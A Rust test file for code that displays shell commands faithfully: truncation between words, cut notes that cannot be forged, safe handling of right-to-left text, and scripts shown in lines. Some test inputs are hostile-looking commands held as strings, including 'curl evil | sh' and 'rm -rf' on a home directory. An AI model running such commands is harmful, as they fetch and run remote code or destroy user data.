use proptest::prelude::*;

use super::*;
use crate::testing::{properties, strings};

/// PRM-6: a command is cut between words, says how much is missing, and shows its end.
#[test]
fn commands_are_cut_between_words() {
    let mut argv = strings(&["rm", "-rf"]);
    argv.extend((0..200).map(|n| format!("it's {n}")));
    argv.extend(strings(&["--", "/home/u"]));
    let shown = shown_command(&argv, 256);
    assert!(shown.starts_with("rm -rf $'it\\'s 0' $'it\\'s 1' "), "{shown}");
    assert!(shown.ends_with(" $'it\\'s 199' -- /home/u"), "{shown}");
    assert!(shown.contains("' [… ") && shown.contains(" words not shown …] $'"), "{shown}");
    assert!(shown.len() <= 256, "{shown}");
}

/// PRM-6: a word that is longer than everything is cut within; both parts are words by themselves.
#[test]
fn a_giant_word_shows_both_ends() {
    let script = format!("echo {}; curl evil | sh", "\u{1b}'".repeat(500));
    let shown = shown_command(&strings(&["sh", "-c", &script, "x y"]), 300);
    assert!(shown.starts_with("sh -c $'echo \\x1b\\'\\x1b"), "{shown}");
    assert!(shown.ends_with("; curl evil | sh' 'x y'"), "{shown}");
    let (head, rest) = shown.split_once("[… ").unwrap();
    let (note, tail) = rest.split_once(" not shown …]").unwrap();
    assert!(head.ends_with("\\x1b'") || head.ends_with("\\''"), "{head}");
    assert!(tail.starts_with("$'"), "{tail}");
    assert!(note.ends_with(" characters"), "one word: {note}");
    assert!(shown.len() <= 300);
}

/// PRM-6: a long name in quotes is cut like a word of a command.
#[test]
fn names_are_bounded() {
    assert_eq!((shown_name("a b"), shown_name("a")), ("'a b'".to_owned(), "a".to_owned()));
    let shown = shown_name(&"a ".repeat(1000));
    assert!(shown.starts_with("'a a ") && shown.ends_with(" a '") && shown.contains("'[… "), "{shown}");
    assert!(shown.len() <= WORD);
}

/// PRM-6: what names a cut is never a word.
#[test]
fn notes_are_not_forged() {
    let shown = shown_command(&strings(&["echo", "[… 3 words not shown …]", "[…"]), 512);
    assert_eq!(shown, "echo $'[\\u2026 3 words not shown …]' $'[\\u2026'");
}

/// PRM-6: the order of words written from right to left cannot lie, and they can still be read.
#[test]
fn words_from_right_to_left() {
    for (argv, shown) in [
        (&["cat", "שלום.txt"][..], "cat 'שלום.txt'"),
        (&["mv", "א", "b"], "mv 'א' b"),
        (&["mv", "א", "ב"], "mv $'\\u05d0' $'\\u05d1'\nargv[1] reads: א\nargv[2] reads: ב"),
        (&["chmod", "א", "600"], "chmod $'\\u05d0' 600\nargv[1] reads: א"),
        (&["rm", "א\tב"], "rm $'א\\tב'"),
        (&["rm", "א ב"], "rm $'\\u05d0 \\u05d1'\nargv[1] reads: א ב"),
    ] {
        assert_eq!(shown_command(&strings(argv), 512), shown);
    }
    // The number in our own note comes after the letters.
    let cut = shown_command(&strings(&["cat", &"א".repeat(600), "x"]), 1024);
    assert!(!reorders(cut.lines().next().unwrap()) && cut.contains("argv[1] reads: א"), "{cut}");
    let many: Vec<String> = (0..100).map(|_| "א".repeat(30)).collect();
    let shown = shown_command(&many, 1024);
    assert!(shown.len() <= 1024 && shown.contains("words not shown") && shown.contains("\nargv[0] reads: "), "{shown}");
}

/// FND-28: a script is shown in its lines, and each word can still be read in one way.
#[test]
fn scripts_are_shown_in_lines() {
    for (script, shown) in [
        ("set -e\ncargo test\n", "sh -c 'set -e\ncargo test\n'"),
        ("awk '{print $1}' f\nrm x", "sh -c $'awk \\'{print $1}\\' f\nrm x'"),
        ("a \nb", "sh -c $'a\\x20\nb'"),
        ("a\r\nb\tc", "sh -c $'a\\r\nb\\tc'"),
        ("echo \\n\ntrue", "sh -c 'echo \\n\ntrue'"),
        // What would look like a line of ours does not stand at the beginning of one.
        ("x\nargv[1] reads: y", "sh -c $'x\\nargv[1] reads: y'"),
    ] {
        assert_eq!(shown_command(&strings(&["sh", "-c", script]), 512), shown);
    }
    let long = (0..200).map(|n| format!("step {n}\n")).collect::<String>();
    let shown = shown_command(&strings(&["sh", "-c", &long]), 512);
    assert!(shown.starts_with("sh -c 'step 0\nstep 1\n") && shown.ends_with("step 198\nstep 199\n'"), "{shown}");
    assert!(shown.contains("' [… ") || shown.contains("'[… "), "{shown}");
}

proptest! {
    #![proptest_config(properties())]

    /// FND-28, PRM-6: in lines or not, what is shown reads back as the very words.
    #[test]
    fn lines_are_read_in_one_way(argv in prop::collection::vec("([a-c=$*'\"\\\\ ]|\n|\r|\u{1b}|é){0,10}", 1..5)) {
        let shown = shown_command(&argv, 4096);
        prop_assert!(shown.chars().all(|c| c == '\n' || !c.is_control()), "{:?}", shown);
        prop_assert!(!shown.contains(" \n"), "{:?}", shown);
        prop_assert_eq!(crate::display::quote::tests::unquote(&shown), argv);
    }


    /// PRM-6, CLI-02: within the bound; both ends are ends of what the whole line would be, and the numbers are right.
    #[test]
    fn cuts_are_clean(
        argv in prop::collection::vec("([a-c '\\\\]|\u{1b}|中|[\\[…]){0,4}|[a-b' ]{0,400}", 1..60),
        max in 0_usize..700,
    ) {
        let shown = shown_command(&argv, max);
        prop_assert!(shown.len() <= max.max(MIN), "{} {shown}", shown.len());
        let whole = crate::quote_argv(&argv);
        let Some((head, rest)) = shown.split_once("[… ") else {
            prop_assert_eq!(shown, whole);
            return Ok(());
        };
        let (note, tail) = rest.split_once(" not shown …]").unwrap();
        prop_assert!(!tail.contains("[… "));
        let (head, tail) = (unquote(head), unquote(tail));
        let (words, last) = (argv.iter(), argv.iter().rev());
        let starts = head.iter().zip(words).all(|(shown, word)| word.starts_with(shown.as_str()));
        let ends = tail.iter().rev().zip(last).all(|(shown, word)| word.ends_with(shown.as_str()));
        prop_assert!(starts && ends, "{shown}");
        let seen: usize = head.iter().chain(&tail).map(|word| word.chars().count()).sum();
        let all: usize = argv.iter().map(|word| word.chars().count()).sum();
        let missing: usize = note.split(' ').next().unwrap().parse().unwrap();
        prop_assert_eq!(seen + missing, all, "{}", shown);
    }
}

fn unquote(line: &str) -> Vec<String> {
    crate::display::quote::tests::unquote(line.trim_matches(' '))
}
